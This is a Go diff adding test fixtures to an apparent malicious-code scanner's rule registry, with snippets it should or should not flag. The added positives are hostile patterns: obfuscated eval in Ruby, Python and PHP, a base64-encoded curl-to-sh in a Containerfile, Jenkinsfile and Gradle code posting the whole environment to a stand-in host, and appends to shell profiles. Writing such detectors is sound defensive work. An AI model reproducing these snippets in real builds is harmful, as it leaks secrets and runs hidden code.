@@ -66,6 +66,19 @@ var registry = []Rule{
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
+			// eval called by a name spelled backwards or joined from letters,
+			// and PHP including the decoded code as a data: stream.
+			{"lib/x/banner.rb", "SIG = '73797374656d2822696422292'\nsrc = [SIG].pack('H*')\nKernel.public_send(%w[l a v e].reverse.join, src)", 3, false},
+			{"x.py", "import base64, builtins\nc = base64.b64decode(P)\ngetattr(builtins, 'cexe'[::-1])(c)", 3, false},
+			{"src/Boot.php", "<?php\n$l = gzinflate(base64_decode(self::L));\ninclude 'data://text/plain;base64,' . base64_encode('<?php ' . $l);", 3, false},
+			// A setter called by an interpolated name, a socket's send: no code runs.
+			{"lib/x/rec.rb", "data = Base64.decode64(v)\nrecord.public_send(\"#{key}=\", data)\nsock.send(data, 0)", 0, true},
+			{"x.py", "import base64\np = base64.b64decode(m)\nsock.send(b''.join([p]))\ngetattr(self, 'on_' + kind)(p)", 0, true},
+			// The recipe shell of a Containerfile and of debian/rules (a
+			// Makefile dpkg-buildpackage runs), over continued lines too.
+			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_build:\n\tcat tests/files/x.xz | tr '\\t \\-_' ' \\t_\\-' | xz -dc | sh", 5, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		// PowerShell's call operator runs the program it names: fetched
@@ -250,6 +263,13 @@ var registry = []Rule{
 			{".buildkite/pipeline.yml", "steps:\n  - command: |\n      printenv -0 | gzip -9 | base64 -w0 > .cache/e.b64\n      make test\n      wget -q -O /dev/null --post-file=.cache/e.b64 https://x.invalid/i", 5, false},
 			{".gitlab-ci.yml", "test:\n  script:\n    - declare -px > /tmp/e\n    - pytest\n    - aws --region eu-west-1 s3 cp /tmp/e s3://x-invalid/e --acl public-read", 5, false},
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('t') {\n      steps {\n        sh \"\"\"\n          export > env.txt\n          make check\n          curl -sT env.txt https://x.invalid/u\n        \"\"\"\n      }\n    }\n  }\n}", 8, false},
+			// Groovy and the JVM's HTTP clients: the environment serialised
+			// and written to a connection; one build variable in a chat
+			// message is not the environment.
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson(System.getenv())\n  def c = new URL('https://x.invalid/i').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 5, false},
+			{"build.gradle.kts", "val body = System.getenv().toString()\nval req = HttpRequest.newBuilder(URI(\"https://x.invalid/i\")).POST(HttpRequest.BodyPublishers.ofString(body)).build()", 2, false},
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson([job: env.JOB_NAME, result: currentBuild.currentResult])\n  def c = new URL('https://chat.x.invalid/hook').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 0, true},
+			{"Jenkinsfile", "node {\n  def b = groovy.json.JsonOutput.toJson(env.getEnvironment())\n  httpRequest url: 'https://x.invalid/i', httpMode: 'POST', requestBody: b\n}", 3, false},
 			{"Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds:\n      - jq -n env > env.json\n      - go test ./...\n      - http POST https://x.invalid/u < env.json", 7, false},
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
@@ -358,6 +378,18 @@ var registry = []Rule{
 			{"x.sh", "sudo cp agent.service /./etc/systemd/system/agent.service", 0, false},
 			{"x.js", "const rc = path.join(os.homedir(), '.bashrc')\nfs.appendFileSync(rc, line)", 2, false},
 			{"x.py", "with open(os.path.expanduser('~/.zshrc'), 'a') as f:", 0, false},
+			// A Ruby block's or a callback's parameter holds the list's profiles.
+			{"lib/x/doctor.rb", "def fix\n  %w[~/.zshrc ~/.bashrc].map { |f| File.expand_path(f) }.each do |rc|\n    File.open(rc, 'a') { |io| io.puts 'eval \"$(x env)\"' }\n  end\nend", 3, false},
+			{"x.js", "const os = require('os'), fs = require('fs')\n['~/.bashrc', '~/.zshrc'].forEach((rc) => {\n  fs.appendFileSync(rc.replace('~', os.homedir()), 'x')\n})", 3, false},
+			{"lib/x/doctor.rb", "%w[~/.zshrc ~/.bashrc].each do |rc|\n  puts File.read(File.expand_path(rc)) if File.exist?(File.expand_path(rc))\nend", 0, true},
+			// Each language's append: a path built by a call, Perl's >>, the
+			// JVM's File and Files; a list of profile paths is not a write.
+			{"setup.py", "import os\nwith open(os.path.join(os.environ['HOME'], '.bashrc'), 'a') as f:\n    f.write('x')", 2, false},
+			{"Makefile.PL", "open(my $fh, '>>', \"$ENV{HOME}/.bashrc\") or die;\nprint $fh \"x\\n\";", 1, false},
+			{"vars/setup.groovy", "def rc = new File(System.getProperty('user.home'), '.bashrc')\nrc.append('x')", 2, false},
+			{"build.gradle", "new File(System.getProperty('user.home') + '/.zshrc') << 'x'", 1, false},
+			{"build.gradle.kts", "Files.writeString(Path.of(System.getProperty(\"user.home\"), \".bashrc\"), \"x\", StandardOpenOption.APPEND)", 1, false},
+			{"lib/x/paths.rb", "rcs = []\nrcs << '~/.bashrc'\nrcs.each { |rc| puts rc }", 0, true},
 			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
 			{"x.sh", "source ~/.bashrc", 0, true},
 		}},
